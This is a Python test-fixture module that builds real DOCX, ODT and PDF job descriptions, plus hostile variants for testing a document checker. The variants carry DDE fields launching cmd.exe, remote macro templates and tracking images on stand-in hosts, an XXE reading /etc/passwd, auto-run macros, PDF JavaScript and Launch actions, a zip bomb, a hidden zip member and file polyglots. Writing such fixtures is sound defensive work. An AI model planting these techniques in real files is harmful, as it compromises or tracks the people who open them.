"""Documents made by real libraries (python-docx, odfpy, reportlab, pikepdf), and hostile variants of them.

python-docx starts from a template saved by Word and odfpy writes what
LibreOffice writes, so these carry the parts, relationships, namespaces and
fields that real files have. Each hostile variant changes one thing in a
real document, so that a test shows which rule refuses it.
"""

import io
import struct
import zipfile
import zlib

import docx
import pikepdf
from docx.opc.constants import RELATIONSHIP_TYPE
from docx.oxml import OxmlElement
from docx.oxml.ns import qn
from odf import draw, opendocument, table, text
from reportlab.lib.pagesizes import A4
from reportlab.pdfgen import canvas


def png_1x1():
    """The smallest real PNG: one white pixel."""

    def chunk(kind, data):
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    header = struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", zlib.compress(b"\x00\xff\xff\xff"))
        + chunk(b"IEND", b"")
    )


# DOCX -------------------------------------------------------------------------------


def real_docx():
    """A job description as Word would save it: headings, a list, a table, a picture, a link, a page-number field."""
    document = docx.Document()
    document.core_properties.title = "Data analyst (housing)"
    document.add_heading("Data analyst (housing)", level=1)
    document.add_paragraph("Turn repairs data into plain answers for residents and councillors.")
    document.add_paragraph("Build and keep the repairs dashboard", style="List Bullet")
    grid = document.add_table(rows=2, cols=2)
    grid.cell(0, 0).text, grid.cell(0, 1).text = "Grade", "PO4"
    grid.cell(1, 0).text, grid.cell(1, 1).text = "Salary", "£42,000 to £48,000"
    document.add_picture(io.BytesIO(png_1x1()))
    paragraph = document.add_paragraph("Apply on ")
    link_id = paragraph.part.relate_to("https://www.camden.gov.uk/jobs", RELATIONSHIP_TYPE.HYPERLINK, is_external=True)
    hyperlink = OxmlElement("w:hyperlink")
    hyperlink.set(qn("r:id"), link_id)
    run = OxmlElement("w:r")
    run_text = OxmlElement("w:t")
    run_text.text = "the council's jobs site"
    run.append(run_text)
    hyperlink.append(run)
    paragraph._p.append(hyperlink)
    footer = document.sections[0].footer.paragraphs[0]
    footer.text = "Page "
    page_field = OxmlElement("w:fldSimple")
    page_field.set(qn("w:instr"), " PAGE ")
    footer._p.append(page_field)
    buffer = io.BytesIO()
    document.save(buffer)
    return buffer.getvalue()


def members(data):
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return {info.filename: archive.read(info) for info in archive.infolist()}


def rezip(data, *, replace=None, add=()):
    """The same archive with some members' contents replaced and others added."""
    replace = replace or {}
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, contents in members(data).items():
            archive.writestr(name, replace.get(name, contents))
        for name, contents in add:
            archive.writestr(name, contents)
    return buffer.getvalue()


def edit(data, name, old, new):
    part = members(data)[name]
    assert old in part, f"{old!r} not in {name}"
    return rezip(data, replace={name: part.replace(old, new, 1)})


def add_relationship(data, rels_name, relationship, *, source_rels_skeleton=None):
    """A relationship added to a .rels part (created when the part has none yet)."""
    parts = members(data)
    rels = parts.get(rels_name) or (
        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"></Relationships>'
    )
    rels = rels.replace(b"</Relationships>", relationship + b"</Relationships>")
    if rels_name in parts:
        return rezip(data, replace={rels_name: rels})
    return rezip(data, add=[(rels_name, rels)])


OLE_COMPOUND_FILE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504
MAIN_TYPE = b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"


def docx_with_macro_relationship():
    """A VBA project related to the document under an innocent name, with an innocent content type."""
    relationship = (
        b'<Relationship Id="rIdM" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" '
        b'Target="theme/colours.xml"/>'
    )
    return add_relationship(real_docx(), "word/_rels/document.xml.rels", relationship)


def docx_with_macro_content_type():
    """A DOCM renamed .docx: the main part declared macro-enabled, nothing else named after macros."""
    return edit(
        real_docx(), "[Content_Types].xml", MAIN_TYPE, b"application/vnd.ms-word.document.macroEnabled.main+xml"
    )


def docx_with_ole_container_under_image_name():
    """A compound file (what vbaProject.bin and OLE objects are) stored as word/media/image9.png."""
    return rezip(real_docx(), add=[("word/media/image9.png", OLE_COMPOUND_FILE)])


def docx_with_remote_template():
    """Word's settings point to a template on another server: Word fetches it, and runs its macros."""
    data = edit(real_docx(), "word/settings.xml", b"</w:settings>", b'<w:attachedTemplate r:id="rIdT"/></w:settings>')
    relationship = (
        f'<Relationship Id="rIdT" Type="{REL}attachedTemplate" '
        'Target="https://templates.example/jd.dotm" TargetMode="External"/>'
    ).encode()
    return add_relationship(data, "word/_rels/settings.xml.rels", relationship)


def docx_with_remote_image():
    """A picture fetched from a file share when the document opens: it reports who opened it."""
    relationship = (
        f'<Relationship Id="rIdX" Type="{REL}image" Target="file://files.example/share/logo.png" '
        'TargetMode="External"/>'
    ).encode()
    return add_relationship(real_docx(), "word/_rels/document.xml.rels", relationship)


def docx_with_link_to_a_file():
    relationship = (
        f'<Relationship Id="rIdF" Type="{REL}hyperlink" Target="file:///C:/Windows/System32/cmd.exe" '
        'TargetMode="External"/>'
    ).encode()
    return add_relationship(real_docx(), "word/_rels/document.xml.rels", relationship)


def docx_with_body(xml):
    """The real document with `xml` (WordprocessingML) added at the start of its body."""
    return edit(real_docx(), "word/document.xml", b"<w:body>", b"<w:body>" + xml)


def complex_field(*instruction_pieces):
    runs = b"".join(
        b'<w:r><w:instrText xml:space="preserve">' + piece + b"</w:instrText></w:r>" for piece in instruction_pieces
    )
    return (
        b'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        + runs
        + b'<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>Data analyst</w:t></w:r>'
        b'<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )


DDE_SIMPLE_FIELD = (
    b'<w:p><w:fldSimple w:instr=" DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe &quot;/k calc.exe&quot; ">'
    b"<w:r><w:t>Data analyst</w:t></w:r></w:fldSimple></w:p>"
)
DDE_SPLIT_FIELD = complex_field(b" dd", b"eauto c:\\\\windows\\\\system32\\\\cmd.exe ", b'"/k calc.exe"')
# { { QUOTE 68 68 69 } "c:\\...\\cmd.exe" }: the field's type is spelt by another field.
COMPUTED_FIELD = (
    b'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
    + complex_field(b" QUOTE 68 68 69 ")[len(b"<w:p>") : -len(b"</w:p>")]
    + b'<w:r><w:instrText xml:space="preserve"> "c:\\\\windows\\\\system32\\\\cmd.exe" </w:instrText></w:r>'
    b'<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
)
OLE_OBJECT = (
    b'<w:p><w:r><w:object><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" '
    b'Type="Embed" ProgID="Package" ShapeID="_x0000_i1025" r:id="rId1"/></w:object></w:r></w:p>'
)
ALT_CHUNK = b'<w:altChunk r:id="rIdA"/>'


def docx_with_doctype(part="word/document.xml"):
    """An XML part with a DOCTYPE that declares an entity, used in the text."""
    original = members(real_docx())[part]
    declaration, rest = original.split(b"?>", 1)
    hostile = declaration + b'?><!DOCTYPE root [<!ENTITY role "Data analyst">]>' + rest
    if part == "word/document.xml":
        hostile = hostile.replace(b"<w:body>", b"<w:body><w:p><w:r><w:t>&role;</w:t></w:r></w:p>", 1)
    return rezip(real_docx(), replace={part: hostile})


def docx_with_utf16_doctype():
    """The DOCTYPE in UTF-16: invisible to a search for the bytes "<!DOCTYPE", not to a parser."""
    original = members(real_docx())["word/document.xml"].decode()
    declaration, rest = original.split("?>", 1)
    hostile = '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE w:document [<!ENTITY x "y">]>' + rest
    return rezip(real_docx(), replace={"word/document.xml": hostile.encode("utf-16")})


def docx_with_doctype_in_unnamed_part():
    """XML under a name that does not say so: parsed all the same, because it starts like XML."""
    hostile = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'
    return rezip(real_docx(), add=[("customXml/item2.dat", hostile)])


def docx_with_activex_control():
    return rezip(real_docx(), add=[("word/activeX/activeX1.xml", b'<?xml version="1.0"?><ax:ocx xmlns:ax="x"/>')])


# ODT --------------------------------------------------------------------------------


def real_odt(extra_body=None):
    """A job description as odfpy (and LibreOffice) would save it: headings, text, a table, a picture."""
    document = opendocument.OpenDocumentText()
    document.text.addElement(text.H(outlinelevel=1, text="Data analyst (housing)"))
    document.text.addElement(text.P(text="Turn repairs data into plain answers for residents and councillors."))
    grid = table.Table(name="Pay")
    grid.addElement(table.TableColumn(numbercolumnsrepeated=2))
    for label, value in [("Grade", "PO4"), ("Salary", "£42,000 to £48,000")]:
        row = table.TableRow()
        for cell_text in (label, value):
            cell = table.TableCell()
            cell.addElement(text.P(text=cell_text))
            row.addElement(cell)
        grid.addElement(row)
    document.text.addElement(grid)
    picture = document.addPictureFromString(png_1x1(), "image/png")
    frame = draw.Frame(width="1cm", height="1cm", anchortype="paragraph")
    frame.addElement(draw.Image(href=picture))
    paragraph = text.P()
    paragraph.addElement(frame)
    document.text.addElement(paragraph)
    link = text.A(href="https://www.camden.gov.uk/jobs", text="the council's jobs site")
    paragraph = text.P(text="Apply on ")
    paragraph.addElement(link)
    document.text.addElement(paragraph)
    buffer = io.BytesIO()
    document.write(buffer)
    return buffer.getvalue()


def odt_rezip(data, *, replace=None, add=()):
    """As rezip, keeping ODT's rule that `mimetype` comes first, stored uncompressed."""
    replace = replace or {}
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, contents in members(data).items():
            method = zipfile.ZIP_STORED if name == "mimetype" else zipfile.ZIP_DEFLATED
            archive.writestr(name, replace.get(name, contents), compress_type=method)
        for name, contents in add:
            archive.writestr(name, contents)
    return buffer.getvalue()


def odt_edit(data, name, old, new):
    part = members(data)[name]
    assert old in part, f"{old!r} not in {name}"
    return odt_rezip(data, replace={name: part.replace(old, new, 1)})


MACRO_MODULE = (
    b'<?xml version="1.0" encoding="UTF-8"?><script:module xmlns:script="http://openoffice.org/2000/script" '
    b'script:name="Module1" script:language="StarBasic">Sub Main\nShell("calc.exe")\nEnd Sub</script:module>'
)
LOAD_EVENT = (
    b'<office:event-listeners><script:event-listener script:language="ooo:script" script:event-name="dom:load" '
    b'xlink:href="vnd.sun.star.script:Standard.Module1.Main?language=Basic&amp;location=document"/>'
    b"</office:event-listeners>"
)
OFFICE_NS = b'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0"'
SCRIPT_NS = b' xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0"'
XLINK_NS = b' xmlns:xlink="http://www.w3.org/1999/xlink"'


def odt_with_basic_macro():
    """A Basic module in Basic/Standard/, as LibreOffice stores one (not listed in the manifest here)."""
    return odt_rezip(real_odt(), add=[("Basic/Standard/Module1.xml", MACRO_MODULE)])


def odt_with_script_in_manifest():
    """A script listed in the manifest, by its media type, in a folder with an innocent name."""
    entry = b'<manifest:file-entry manifest:full-path="Pictures/a.js" manifest:media-type="application/javascript"/>'
    data = odt_edit(real_odt(), "META-INF/manifest.xml", b"</manifest:manifest>", entry + b"</manifest:manifest>")
    return odt_rezip(data, add=[("Pictures/a.js", b"app.alert(1)")])


def odt_with_load_event():
    """A macro run when the document opens, from office:scripts in content.xml."""
    content = members(real_odt())["content.xml"]
    content = content.replace(OFFICE_NS, OFFICE_NS + SCRIPT_NS, 1) if SCRIPT_NS not in content else content
    content = content.replace(b"<office:body>", b"<office:scripts>" + LOAD_EVENT + b"</office:scripts><office:body>")
    return odt_rezip(real_odt(), replace={"content.xml": content})


def odt_with_macro_link():
    return odt_edit(
        real_odt(), "content.xml", b'href="https://www.camden.gov.uk/jobs"', b'href="macro:///Standard.Module1.Main"'
    )


def odt_with_remote_image():
    return odt_edit(real_odt(), "content.xml", b'xlink:href="Pictures/', b'xlink:href="https://tracker.example/')


def odt_with_dde_link():
    declaration = (
        b'<text:dde-connection-decls><text:dde-connection-decl office:name="jd" office:dde-application="cmd" '
        b'office:dde-topic="/k calc.exe" office:dde-item="x"/></text:dde-connection-decls>'
    )
    return odt_edit(real_odt(), "content.xml", b"<office:text>", b"<office:text>" + declaration)


def odt_with_doctype():
    content = members(real_odt())["content.xml"]
    declaration, rest = content.split(b"?>", 1)
    hostile = declaration + b'?><!DOCTYPE office:document-content [<!ENTITY role "Data analyst">]>' + rest
    return odt_rezip(real_odt(), replace={"content.xml": hostile})


# Zip tricks -------------------------------------------------------------------------


def raw_zip(entries, *, hidden=b""):
    """A zip written by hand, for directories that lie: (name, deflated data, declared size, declared crc).

    `hidden` goes between the third and fourth members, mentioned by no directory entry.
    """
    body, directory = b"", b""
    for index, (name, deflated, declared_size, declared_crc) in enumerate(entries):
        if index == 3:
            body += hidden
        encoded = name.encode()
        header = struct.pack(
            "<4sHHHHHIIIHH", b"PK\x03\x04", 20, 0, 8, 0, 0, declared_crc, len(deflated), declared_size, len(encoded), 0
        )
        directory += struct.pack(
            "<4sHHHHHHIIIHHHHHII",
            b"PK\x01\x02",
            20,
            20,
            0,
            8,
            0,
            0,
            declared_crc,
            len(deflated),
            declared_size,
            len(encoded),
            0,
            0,
            0,
            0,
            0,
            len(body),
        )
        directory += encoded
        body += header + encoded + deflated
    end = struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, len(entries), len(entries), len(directory), len(body), 0)
    return body + directory + end


def deflate(data):
    compressor = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
    return compressor.compress(data) + compressor.flush()


def honest_entries(data):
    return [(name, deflate(body), len(body), zlib.crc32(body)) for name, body in members(data).items()]


def lying_zip_bomb_docx(megabytes=200):
    """A DOCX whose padding part says it is 1 kB (with the checksum of its first kB) and inflates to `megabytes`.

    Python's zipfile stops at the declared size and finds the checksum right;
    a reader that follows the compressed stream inflates all of it.
    """
    compressor = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
    zeros = b"\0" * (1024 * 1024)
    padding = b"".join(compressor.compress(zeros) for _ in range(megabytes)) + compressor.flush()
    entries = honest_entries(real_docx())
    entries.append(("word/media/padding.bin", padding, 1024, zlib.crc32(b"\0" * 1024)))
    return raw_zip(entries)


def docx_with_nested_zip():
    return rezip(real_docx(), add=[("word/media/image5.png", real_docx())])


def docx_with_duplicate_part():
    """Two word/document.xml members, differing only in case: a checker reads one, Word may read the other."""
    return rezip(real_docx(), add=[("word/Document.xml", members(real_docx())["word/document.xml"])])


def docx_with_hidden_member():
    """A member between two others that the central directory does not mention."""
    entries = honest_entries(real_docx())
    # A whole member, a VBA project, that only a reader walking the local headers would find.
    smuggled = raw_zip([("word/vbaProject.bin", deflate(OLE_COMPOUND_FILE), 512, zlib.crc32(OLE_COMPOUND_FILE))])
    local_entry = smuggled[: smuggled.index(b"PK\x01\x02")]
    return raw_zip(entries, hidden=local_entry)


# PDF --------------------------------------------------------------------------------


def reportlab_pdf():
    """Two pages with text and a web link, as reportlab writes them."""
    buffer = io.BytesIO()
    page = canvas.Canvas(buffer, pagesize=A4)
    page.setTitle("Data analyst (housing)")
    page.drawString(72, 770, "Data analyst (housing)")
    page.drawString(72, 750, "Apply on the council's jobs site")
    page.linkURL("https://www.camden.gov.uk/jobs", (72, 745, 300, 760))
    page.showPage()
    page.drawString(72, 770, "Salary: 42,000 to 48,000 pounds")
    page.save()
    return buffer.getvalue()


def pikepdf_pdf(**save_options):
    """A PDF written by qpdf itself: one blank page, saved with the given options."""
    pdf = pikepdf.new()
    pdf.add_blank_page(page_size=(595, 842))
    buffer = io.BytesIO()
    pdf.save(buffer, **save_options)
    return buffer.getvalue()


def changed_pdf(change, *, object_streams=False):
    """reportlab's PDF, changed by `change(pdf)` and saved again by qpdf."""
    with pikepdf.open(io.BytesIO(reportlab_pdf())) as pdf:
        change(pdf)
        buffer = io.BytesIO()
        mode = pikepdf.ObjectStreamMode.generate if object_streams else pikepdf.ObjectStreamMode.preserve
        pdf.save(buffer, object_stream_mode=mode)
    return buffer.getvalue()


def _javascript_name_tree(pdf):
    action = pdf.make_indirect(pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert(1)")))
    pdf.Root.Names = pikepdf.Dictionary(JavaScript=pikepdf.Dictionary(Names=pikepdf.Array(["run", action])))


def _open_action_print(pdf):
    pdf.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.Named, N=pikepdf.Name.Print)


def _open_at_first_page(pdf):
    pdf.Root.OpenAction = pikepdf.Array([pdf.pages[0].obj, pikepdf.Name.XYZ, None, None, 0])


def _page_open_action(pdf):
    pdf.pages[0].obj.AA = pikepdf.Dictionary(O=pikepdf.Dictionary(S=pikepdf.Name.GoTo, D=pikepdf.Array([0])))


def _launch_link(pdf):
    annotation = pdf.pages[0].obj.Annots[0]
    annotation.A = pikepdf.Dictionary(S=pikepdf.Name.Launch, F=pikepdf.String("cmd.exe"))


def _attachment(pdf):
    pdf.attachments["setup.exe"] = pikepdf.AttachedFileSpec(pdf, b"MZ" + b"\0" * 100)


def pdf_with_javascript(object_streams=False):
    return changed_pdf(_javascript_name_tree, object_streams=object_streams)


def pdf_with_open_action():
    return changed_pdf(_open_action_print)


def pdf_opening_at_first_page():
    return changed_pdf(_open_at_first_page)


def pdf_with_page_action():
    return changed_pdf(_page_open_action)


def pdf_with_launch():
    return changed_pdf(_launch_link)


def pdf_with_attachment():
    return changed_pdf(_attachment)


# /J#61vaScript is /JavaScript spelt with an escape: a search of the bytes does not find it.
ESCAPED_JAVASCRIPT_PDF = b"""%PDF-1.4
1 0 obj << /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R >> endobj
2 0 obj << /Type /Pages /Kids [3 0 R] /Count 1 >> endobj
3 0 obj << /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >> endobj
4 0 obj << /Length 44 >> stream
BT /F1 18 Tf 72 770 Td (Data analyst) Tj ET
endstream endobj
5 0 obj << /S /J#61vaScript /J#53 (app.alert\\(1\\)) >> endobj
trailer << /Size 6 /Root 1 0 R >>
%%EOF
"""


def pdf_after_html():
    """A page's markup before the PDF header: a browser shown this file sees a web page."""
    return b"<html><body><script>alert(1)</script></body></html>\n" + reportlab_pdf()


def pdf_before_zip():
    """A PDF with a zip archive after its end: a zip tool opened on it finds the archive."""
    return reportlab_pdf() + real_docx()
